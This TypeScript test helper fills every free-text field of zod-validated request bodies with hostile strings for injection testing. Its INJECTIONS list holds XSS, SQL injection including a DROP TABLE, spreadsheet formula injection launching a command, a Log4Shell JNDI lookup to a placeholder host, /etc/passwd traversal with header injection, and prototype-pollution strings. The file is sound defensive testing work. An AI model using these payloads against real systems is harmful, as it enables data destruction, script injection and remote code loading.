import type { z } from 'zod';
import { LINES, LOCALES, ONE_LINE } from '../../src/contract/fields';

/** Texts that would do harm if a page, an SQL statement, a sheet, a template or a log interpreted them. */
export const INJECTIONS = [
  `<img src=x onerror="alert(1)">`,
  `"><svg/onload=alert(1)>`,
  `</script><script>alert(1)</script>`,
  'javascript:alert(1)//${alert(1)}`',
  `'; drop table sys_user; --`,
  `' or '1'='1' /* \\' */`,
  `$1 :name ?? %s %(x)s \\x00 \\u0000`,
  `%_\\%__`,
  `=HYPERLINK("http://a.b","x")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3@SUM(1)`,
  `@SUM(1+1)*cmd`,
  `\uff1d1+1`,
  `{{constructor.constructor('x')()}}`,
  `$t(records:form.save) {{name}}`,
  `\${jndi:ldap://a.b/c}`,
  `../../etc/passwd\r\nSet-Cookie: a=b`,
  `a\tb\nc "d", 'e';\\`,
  `{"a":[null,"__proto__"]}`,
  `__proto__`,
  `null`,
  `\u202etxt.exe\u200b\u2066`,
  `Ünï 漢字 қазақ 👩‍🔧`,
] as const;

type Inner = z.core.$ZodTypeDef & Record<string, unknown>;
const readDefinition = (schema: z.ZodType) => schema.def as unknown as Inner;

/** @returns the schema below `optional`, `nullable`, `default` and the like */
function unwrapSchema(schema: z.ZodType): z.ZodType {
  const { innerType, in: before } = readDefinition(schema) as { innerType?: z.ZodType; in?: z.ZodType };
  const inner = innerType ?? before;
  return inner ? unwrapSchema(inner) : schema;
}

const readPattern = ({ _zod }: z.core.$ZodCheck) => (_zod.def as { pattern?: RegExp }).pattern?.source;

/** Whether a schema takes no control characters. */
const isLine = (schema: z.ZodType) =>
  ((readDefinition(schema).checks ?? []) as z.core.$ZodCheck[]).some((check) => readPattern(check) === ONE_LINE.source);

/** Makes a hostile text one line. */
export const toLine = (hostile: string) => hostile.replace(/\p{Cc}+/gu, ' ');

/** @returns the greatest length of a free text; undefined when a format or a check limits the text */
function readTextLimit(schema: z.ZodType): number | undefined {
  const {
    type,
    format,
    checks = [],
  } = readDefinition(schema) as { type: string; format?: string; checks?: z.core.$ZodCheck[] };
  if (type !== 'string' || format !== undefined) return undefined;
  const isLimited = checks.some(
    (check) =>
      ['string_format', 'custom'].includes(check._zod.def.check) &&
      ![ONE_LINE.source, LINES.source].includes(readPattern(check) ?? ''),
  );
  return isLimited ? undefined : ((schema as z.ZodString).maxLength ?? 10_000);
}

/**
 * Fills every free text of a body with as much of `text` as fits; other fields stay as in `base`.
 * @param kept paths whose value the server must know: `appId`, `quietHours.timezone`
 */
export function injectText(
  schema: z.ZodType,
  base: unknown,
  text: string,
  kept: readonly string[],
  path = '',
): unknown {
  if (kept.includes(path)) return base;
  const plain = unwrapSchema(schema);
  const most = readTextLimit(plain);
  if (most !== undefined) return (isLine(plain) ? toLine(text) : text).slice(0, most).trim();
  const below = (inner: z.ZodType, value: unknown, name: string) =>
    injectText(inner, value, text, kept, path === '' ? name : `${path}.${name}`);
  const { type } = readDefinition(plain);
  if (type === 'array') return injectList(plain, base, below);
  // An optional field that is missing stays missing.
  if (base === undefined || base === null) return base;
  if (type === 'record') return injectTranslations(plain, below);
  return type === 'object' ? injectMembers(plain, base as Record<string, unknown>, below) : base;
}

type Below = (inner: z.ZodType, value: unknown, name: string) => unknown;

function injectList(list: z.ZodType, base: unknown, below: Below): unknown {
  const { element } = readDefinition(list) as unknown as { element: z.ZodType };
  return readTextLimit(unwrapSchema(element)) === undefined ? base : [below(element, '', '0')];
}

/** Fills a text in all languages. */
function injectTranslations(words: z.ZodType, below: Below): unknown {
  const { valueType } = readDefinition(words) as unknown as { valueType: z.ZodType };
  return Object.fromEntries(LOCALES.map((locale) => [locale, below(valueType, '', locale)]));
}

function injectMembers(of: z.ZodType, base: Record<string, unknown>, below: Below): unknown {
  const { shape } = readDefinition(of) as unknown as { shape: Record<string, z.ZodType> };
  const filled = Object.entries(shape).map(([name, inner]) => [name, below(inner, base[name], name)]);
  return Object.fromEntries(filled.filter(([, value]) => value !== undefined));
}

/** Lists the paths of the fields that {@link injectText} fills. */
export function listFreeTexts(schema: z.ZodType, base: unknown, kept: readonly string[]): string[] {
  const mark = 'injected';
  const walk = (value: unknown, path: string): string[] => {
    if (typeof value === 'string') return mark.startsWith(value) && value !== '' ? [path] : [];
    if (typeof value !== 'object' || value === null) return [];
    return Object.entries(value).flatMap(([name, inner]) => walk(inner, path === '' ? name : `${path}.${name}`));
  };
  return walk(injectText(schema, base, mark, kept), '');
}
